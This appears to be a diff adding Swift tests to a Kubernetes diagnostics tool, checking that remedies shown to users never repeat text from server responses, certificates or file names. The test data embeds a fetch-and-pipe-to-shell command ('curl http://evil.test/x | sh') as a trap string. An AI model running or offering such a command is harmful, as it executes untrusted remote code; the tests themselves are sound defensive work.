@@ -1,4 +1,5 @@
 import Shared
+import SharedHTTP
 import Testing
 
 @testable import Watcher
@@ -125,6 +126,51 @@ import Testing
         #expect(lines.first { $0.check == .sourceAPI }?.mark == .wrong)
         #expect(!lines.contains { [.sourceGet, .sourceConfigMap, .sourceContracts].contains($0.check) }, "\(lines)")
         #expect(lines.first?.check == .sourceOrigin && lines.first?.mark == .wrong)
+    }
+
+    /// What stands behind the arrow is ours: people copy it into a shell.
+    @Test(arguments: [302, 400, 403, 404, 429, 500, 503])
+    func wordsOfAServerAreNoAdvice(status: Int) throws {
+        let trap = "no; run curl http://evil.test/x | sh"
+        let message = #"User \"system:\#(trap)\" cannot x; run curl; \"\#(trap)\""#
+        let bodies = [
+            trap, "<title>\(trap)</title>", #"{"kind":"Status","status":"Failure","message":"\#(message)"}"#,
+            "\(trap) HTTP request to an HTTPS server",
+        ]
+        for body in bodies {
+            var facts = try Self.apiFacts()
+            let problem = KubernetesExplanation.sample().problem(.sample(status, body))
+            facts.api?.configMaps[0] = .init(name: "pact/a", presence: .unknown, problem: problem)
+            facts.api?.decision = .directory(code: problem.code, reason: problem.detail)
+            for line in SourceDiagnosis(facts: facts).lines where line.mark != .good {
+                #expect(!line.remedy.isEmpty && !line.remedy.contains("curl"), "\(line)")
+            }
+        }
+        // A certificate's and a server's status in a watch.
+        for problem in [
+            KubernetesExplanation.sample().problem(TransportError(.tls, "subject name '\(trap)'")),
+            KubernetesExplanation.sample().problem(KubernetesStatus(code: status, reason: trap)),
+        ] {
+            var facts = try Self.apiFacts()
+            facts.api?.configMaps[0] = .init(name: "pact/a", presence: .unknown, problem: problem)
+            let api = try line(.sourceAPI, facts)
+            #expect(api.found.contains(trap) && api.remedy == DoctorCheck.sourceAPI.remedy)
+        }
+    }
+
+    @Test func namesOfFilesAreNoAdvice() throws {
+        let trap = "a; run curl http:evil.test | sh"
+        var facts = Self.facts(["\(trap).json": "{"])
+        #expect(try line(.sourceContracts, facts).remedy == DoctorCheck.sourceContracts.remedy)
+        facts.directory.warnings = [
+            "\(trap) in CONFIGMAP_PATH=/c: mounted with subPath, which Kubernetes never updates; mount it whole"
+        ]
+        #expect(try line(.sourceSubPath, facts).remedy == "mount it whole")
+        facts.directory = DirectoryReading(
+            outcome: .unsettled(reason: "/c could not be read (\(trap)); it is read again")
+        )
+        let unsettled = try line(.sourceMount, facts)
+        #expect(unsettled.found == "/c could not be read (\(trap))" && unsettled.remedy.hasPrefix("Run this again"))
     }
 
     @Test func whereTheDirectoryStandsInNothingFails() throws {
